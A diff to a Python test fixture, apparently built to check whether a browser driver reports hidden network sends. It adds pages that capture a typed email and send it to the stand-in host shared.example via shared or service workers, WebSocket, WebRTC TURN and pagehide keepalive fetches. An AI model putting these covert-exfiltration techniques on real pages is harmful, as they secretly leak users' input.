@@ -183,6 +183,32 @@ _SHARED = b"""<script>
 new SharedWorker(URL.createObjectURL(new Blob([
   "fetch('https://shared.example/got', {method: 'POST', mode: 'no-cors'})"])));
 </script>"""
+_PIXEL = "<!doctype html><img src=https://shared.example/pixel><input type=email name=email><script>"
+_APART = {
+    "sharing.example": _PIXEL
+    + """const worker = new SharedWorker("/worker.js");
+document.querySelector("input").addEventListener("change", (e) => worker.port.postMessage(e.target.value));</script>""",
+    "serving.example": _PIXEL
+    + """navigator.serviceWorker.register("/worker.js");
+document.querySelector("input").addEventListener("change", async (e) => {
+  const value = e.target.value; (await navigator.serviceWorker.ready).active.postMessage(value); });</script>""",
+    "turning.example": _PIXEL
+    + """for (let i = 0; i < 6000; i++) document.cookie = `a${i}=; max-age=0`; // more than is told
+const line = new RTCPeerConnection.prototype.constructor({iceServers: [
+  {urls: "turn:shared.example:444?transport=tcp", username: "a", credential: "b"}]});
+line.createDataChannel("x"); line.createOffer().then((offer) => line.setLocalDescription(offer));</script>""",
+    "rebinding.example": """<!doctype html><script>new SharedWorker("/rebinding.js")</script>""",
+    "leaver.example": """<!doctype html><script>addEventListener("pagehide", () => {
+  for (const host of ["slow.leaver.example", "slow-near.leaver.example"])
+    fetch(`https://${host}/`, {mode: "no-cors", keepalive: true});
+})</script>""",
+}
+"""Pages that send in a way that the driver doesn't tell of, or when they are left already."""
+_WORKER = b"""const send = (e) => { const at = "shared.example/apart?" + encodeURIComponent(e.data);
+  if (self.registration) new WebSocket("wss://" + at); else fetch("https://" + at, {mode: "no-cors"}); };
+onmessage = send; onconnect = (e) => { e.ports[0].onmessage = send; };"""
+_REBINDING = b"""fetch("https://turncoat.example/got", {mode: "no-cors"}).then(
+  () => fetch("https://turncoat.example:444/", {mode: "no-cors"}));"""
 _NEAR = """<!doctype html><form id=f method=post enctype=text/plain target=_blank><input name=command></form>
 <a id=a target=_blank>on</a><iframe src="http://127.0.0.1:PORT/frame"></iframe>
 <img src="http://localhost:PORT/img"><link rel=stylesheet href="http://[::1]:PORT/style">
@@ -330,6 +356,10 @@ def _content(host: str, path: str) -> tuple[str, bytes]:
         return "text/html", b"<!doctype html><script src=https://hider.example/tag.js></script>" + _SHARED
     if host == "hider.example" and path == "/tag.js":
         return "text/javascript", _HIDER.encode()
+    if host in _APART and path == "/":
+        return "text/html", _APART[host].encode()
+    if path in ("/worker.js", "/rebinding.js"):
+        return "text/javascript", _WORKER if path == "/worker.js" else _REBINDING
     if host == NEAR:
         return "text/html", b""
     if host == BUSY:
